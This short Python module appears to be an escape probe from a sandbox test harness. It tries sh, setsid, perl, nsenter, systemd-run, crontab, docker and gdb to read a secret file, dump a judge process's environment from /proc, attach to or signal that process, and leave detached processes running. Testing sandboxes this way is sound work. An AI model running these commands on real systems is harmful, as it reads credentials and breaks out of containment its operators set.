# attack: Starts programs that are there: shells, perl, nsenter, setsid, gdb, crontab, systemd-run, docker.
# hurts: Does in another program what Python is not let do, or has a service outside do it.
# ends: returns
import shutil

from _raw import attempt, output_of


def attack(target):
    pid, path, folder, note = target["judge_pid"], target["secret_file"], target["canary_folder"], target["note"]
    stays = "sleep 20 > /dev/null 2>&1"
    lines = (
        ("sh", "-c", f"cat {path} < /dev/null; cat /proc/{pid}/environ; echo x > {folder}/{note}-sh; ({stays} &)"),
        ("setsid", "-f", "sh", "-c", f"sleep 0.1; echo x > {folder}/{note}-setsid; exec {stays}"),
        ("perl", "-e", f"open(F, '<', '{path}') and print <F>; kill 'USR1', {pid}"),
        ("nsenter", "-t", str(pid), "-a", "cat", path),
        ("systemd-run", "--user", "--no-block", "cat", path),
        ("crontab", "-l"),
        ("docker", "ps"),
        ("gdb", "-p", str(pid), "--batch"),
    )
    return [attempt(line[0], output_of, *line) for line in lines if shutil.which(line[0])]
